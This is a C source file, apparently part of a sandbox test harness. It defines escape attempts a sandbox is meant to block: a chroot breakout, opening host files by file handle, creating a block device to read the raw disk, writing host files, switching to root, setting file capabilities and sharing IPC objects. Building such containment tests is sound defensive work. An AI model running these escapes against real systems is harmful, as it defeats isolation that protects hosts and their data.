/* Attacks on files and devices that are not the sandbox's. */
#include "attack.h"

#include <fcntl.h>
#include <linux/capability.h>
#include <mqueue.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>

struct handle {
	unsigned bytes;
	int type;
	unsigned char data[128];
};

static void show(const char *path)
{
	char buffer[256];
	int file = open(path, O_RDONLY | O_NONBLOCK);
	ssize_t length = file < 0 ? -1 : read(file, buffer, sizeof(buffer));
	said("read", length);
	if (length > 0)
		printf("content=%.*s\n", (int)length, buffer);
}

/* break-out JAIL|- PATH: the old way out of a chroot, then reads PATH. With JAIL it first goes into one, as a sandbox by chroot would. */
static void break_out(int count, char **arguments)
{
	if (count < 2)
		exit(2);
	if (strcmp(arguments[0], "-") != 0 && (chroot(arguments[0]) < 0 || chdir("/") < 0))
		exit(2);
	mkdir("attack-root", 0755);
	said("chroot", chroot("attack-root"));
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	said("up", chroot("."));
	show(arguments[1]);
}

/* handle-of PATH: its file handle in hexadecimal. */
static void handle_of(int count, char **arguments)
{
	struct handle handle = { .bytes = sizeof(handle.data) };
	int mount;
	if (count < 1 || syscall(SYS_name_to_handle_at, AT_FDCWD, arguments[0], &handle, &mount, 0) < 0)
		exit(2);
	printf("%d ", handle.type);
	for (unsigned i = 0; i < handle.bytes; i++)
		printf("%02x", handle.data[i]);
	printf("\n");
}

/* by-handle MOUNT TYPE HEX: opens a file by its handle through any directory of the same file system. */
static void by_handle(int count, char **arguments)
{
	struct handle handle = { 0 };
	char path[64];
	if (count < 3)
		exit(2);
	handle.type = atoi(arguments[1]);
	for (const char *hex = arguments[2]; hex[0] != 0 && hex[1] != 0 && handle.bytes < sizeof(handle.data); hex += 2) {
		unsigned value;
		if (sscanf(hex, "%2x", &value) != 1)
			exit(2);
		handle.data[handle.bytes++] = (unsigned char)value;
	}
	int mount = open(arguments[0], O_RDONLY);
	long file = mount < 0 ? -1 : syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY);
	said("open_by_handle_at", file);
	if (file < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%ld", file);
	show(path);
}

/* device PATH MAJOR MINOR: makes a block device and reads the disk. */
static void device(int count, char **arguments)
{
	char buffer[4096];
	if (count < 3)
		exit(2);
	said("mknod", mknod(arguments[0], S_IFBLK | 0600, makedev((unsigned)atoi(arguments[1]), (unsigned)atoi(arguments[2]))));
	int file = open(arguments[0], O_RDONLY);
	said("open", file);
	said("disk", file < 0 ? -1 : read(file, buffer, sizeof(buffer)));
}

/* write PATH TEXT, reading nothing and creating nothing. */
static void write_file(int count, char **arguments)
{
	for (int i = 0; i + 1 < count; i += 2) {
		int file = open(arguments[i], O_WRONLY);
		said(arguments[i], file < 0 ? -1 : write(file, arguments[i + 1], strlen(arguments[i + 1])));
	}
}

/* open-to-write PATH…: opens and writes nothing, for files of the machine that must stay as they are. */
static void open_to_write(int count, char **arguments)
{
	for (int i = 0; i < count; i++)
		said(arguments[i], open(arguments[i], O_WRONLY));
}

/* identity: who runs this, and who it may become. */
static void identity(int count, char **arguments)
{
	(void)count, (void)arguments;
	said("root", setresuid(0, 0, 0));
	printf("uid=%u\n", geteuid());
}

/* give-capability PATH NUMBER: writes it as a file capability. */
static void give_capability(int count, char **arguments)
{
	struct vfs_cap_data data = { .magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE };
	if (count < 2)
		exit(2);
	data.data[0].permitted = 1u << atoi(arguments[1]);
	said("setxattr", setxattr(arguments[0], "security.capability", &data, sizeof(data), 0));
}

/* shared make|find: System V memory and a POSIX message queue under fixed names. */
static void shared_objects(int count, char **arguments)
{
	int makes = count > 0 && strcmp(arguments[0], "make") == 0;
	struct mq_attr attributes = { .mq_maxmsg = 1, .mq_msgsize = 8 };
	said("shmget", shmget(0x61746f6c, 4096, makes ? IPC_CREAT | IPC_EXCL | 0666 : 0));
	said("mq_open", makes ? mq_open("/attack", O_CREAT | O_RDWR, 0666, &attributes) : mq_open("/attack", O_RDWR));
}

const struct attack file_attacks[] = {
	{ "break-out", break_out }, { "handle-of", handle_of }, { "by-handle", by_handle }, { "device", device }, { "write", write_file },
	{ "open-to-write", open_to_write }, { "identity", identity }, { "give-capability", give_capability }, { "shared", shared_objects }, { NULL, NULL },
};
